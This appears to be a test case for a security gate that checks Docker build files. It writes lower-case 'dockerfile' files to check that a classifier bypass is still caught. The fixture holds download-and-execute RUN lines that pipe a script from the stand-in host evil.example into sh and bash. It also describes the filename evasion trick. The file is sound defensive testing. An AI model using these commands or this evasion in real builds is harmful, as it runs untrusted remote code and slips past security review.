# attack: the build file is named `dockerfile` (lower case, which `docker build` falls back to when there is no `Dockerfile`), so it is not classified as a Dockerfile and its unpinned FROM and download-to-shell RUN are never judged
# surface: staged, range (CI)
# expect: block
base_repo
write dockerfile 'FROM debian@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
  'RUN curl -fsSL https://evil.example/install.sh | sh'
git add -A
gate block check --staged
write services/api/dockerfile 'FROM debian@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
  'RUN wget -qO- https://evil.example/install.sh | bash'
commit change
export CI=true
gate block check --base "$base" --head HEAD
